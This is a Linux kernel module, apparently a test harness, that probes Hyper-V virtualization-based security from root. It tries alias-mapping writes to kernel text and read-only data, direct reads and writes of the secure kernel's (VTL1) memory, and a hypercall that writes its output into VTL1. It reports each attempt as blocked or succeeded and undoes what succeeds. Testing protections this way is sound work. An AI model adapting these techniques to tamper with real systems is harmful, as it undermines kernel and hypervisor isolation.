// SPDX-License-Identifier: GPL-2.0-only
/*
 * What root can try with a module of its own. Each attempt says what it tried, and whether it was BLOCKED or
 * SUCCEEDED; what succeeds is undone.
 */
#include <linux/io.h>
#include <linux/kdebug.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>
#include <asm/asm.h>
#include <asm/mshyperv.h>

#define REGISTER_VSM_VP_STATUS 0x000d0003

static unsigned long text, rodata, region;
module_param(text, ulong, 0400);
MODULE_PARM_DESC(text, "address of a function of the kernel");
module_param(rodata, ulong, 0400);
MODULE_PARM_DESC(rodata, "address of read-only data of the kernel");
module_param(region, ulong, 0400);
MODULE_PARM_DESC(region, "physical address of the secure kernel's memory");

static unsigned int blocked, succeeded;

static void report(const char *what, bool through)
{
	*(through ? &succeeded : &blocked) += 1;
	pr_info("vsm-attack: %s: %s\n", what, through ? "SUCCEEDED" : "BLOCKED");
}

/* False if it raised #GP. */
static bool try_read(const volatile u8 *at, u8 *value)
{
	u64 good = 1;
	u8 got = 0;

	asm volatile("1: movb (%[at]), %[got]\n\t"
		     "jmp 3f\n\t"
		     "2: xor %k[good], %k[good]\n"
		     "3:\n" _ASM_EXTABLE(1b, 2b)
		     : [got] "+q"(got), [good] "+r"(good)
		     : [at] "r"(at)
		     : "memory");
	*value = got;
	return good;
}

static bool try_write(volatile u8 *at, u8 value)
{
	u64 good = 1;

	asm volatile("1: movb %[value], (%[at])\n\t"
		     "jmp 3f\n\t"
		     "2: xor %k[good], %k[good]\n"
		     "3:\n" _ASM_EXTABLE(1b, 2b)
		     : [good] "+r"(good)
		     : [at] "r"(at), [value] "q"(value)
		     : "memory");
	return good;
}

/* Writes through a mapping of its own to where @seen is read-only, and looks what @seen says. */
static void attack_alias(const char *what, const u8 *seen)
{
	struct page *page = virt_to_page(__va(__pa_symbol((unsigned long)seen)));
	u8 *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	const u8 old = READ_ONCE(*seen);
	bool through = false;

	if (!alias) {
		pr_err("vsm-attack: no mapping\n");
		return;
	}
	alias += offset_in_page(seen);
	if (try_write(alias, old ^ 1)) {
		through = READ_ONCE(*seen) != old;
		try_write(alias, old);
	}
	report(what, through);
	vunmap(alias - offset_in_page(alias));
}

/* The last page of page tables that the loader made: read by nobody once VTL1 has its own. */
static void attack_region(void)
{
	u8 *at = __va(region) + (511ul << PAGE_SHIFT), value;
	bool through = try_read(at, &value);

	report("reading VTL1's memory", through);
	report("writing VTL1's memory", try_write(at, value));
}

/* #GP at a hypercall is at no instruction of ours: the call is ended where it was made. */
static struct task_struct *caller;

static int on_die(struct notifier_block *block, unsigned long reason, void *data)
{
	struct pt_regs *regs = ((struct die_args *)data)->regs;

	if (reason != DIE_GPF || current != READ_ONCE(caller) ||
	    (regs->ip & PAGE_MASK) != (unsigned long)hv_hypercall_pg)
		return NOTIFY_DONE;
	regs->ip = *(unsigned long *)regs->sp;
	regs->sp += 8;
	regs->ax = ~0ul;
	return NOTIFY_STOP;
}

static struct notifier_block die_block = {.notifier_call = on_die};

static u64 hypercall(u64 control, void *input, phys_addr_t output)
{
	u64 result;
	register u64 r8 asm("r8") = output;
	u64 rdx = virt_to_phys(input);
	unsigned long flags;

	local_irq_save(flags);
	WRITE_ONCE(caller, current);
	asm volatile(CALL_NOSPEC
		     : "=a"(result), "+c"(control), "+d"(rdx), "+r"(r8), ASM_CALL_CONSTRAINT
		     : THUNK_TARGET(hv_hypercall_pg)
		     : "cc", "memory", "r9", "r10", "r11");
	WRITE_ONCE(caller, NULL);
	local_irq_restore(flags);
	return result;
}

static void attack_output(u8 *input)
{
	u64 *word = (u64 *)input;

	memset(input, 0, PAGE_SIZE);
	word[0] = HV_PARTITION_ID_SELF;
	word[1] = (u32)HV_VP_INDEX_SELF;
	*(u32 *)(input + 16) = REGISTER_VSM_VP_STATUS;
	report("a hypercall's output into VTL1's memory",
	       hv_result_success(
		       hypercall(HVCALL_GET_VP_REGISTERS | 1ull << HV_HYPERCALL_REP_COMP_OFFSET,
				 input, region + (511ul << PAGE_SHIFT))));
}

static int __init attack_init(void)
{
	u8 *input = (u8 *)get_zeroed_page(GFP_KERNEL);

	if (!text || !rodata || !region || !input || !hv_is_hyperv_initialized()) {
		pr_err("vsm-attack: say text=, rodata= and region=\n");
		free_page((unsigned long)input);
		return -EINVAL;
	}
	register_die_notifier(&die_block);
	attack_alias("patching kernel text through an alias", (const u8 *)text);
	attack_alias("rewriting read-only data through an alias", (const u8 *)rodata);
	attack_region();
	attack_output(input);
	unregister_die_notifier(&die_block);
	free_page((unsigned long)input);
	pr_info("vsm-attack: %u blocked, %u succeeded\n", blocked, succeeded);
	return 0;
}

static void __exit attack_exit(void)
{
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("Attacks on the kernel that runs it and on VTL1");
MODULE_LICENSE("GPL");
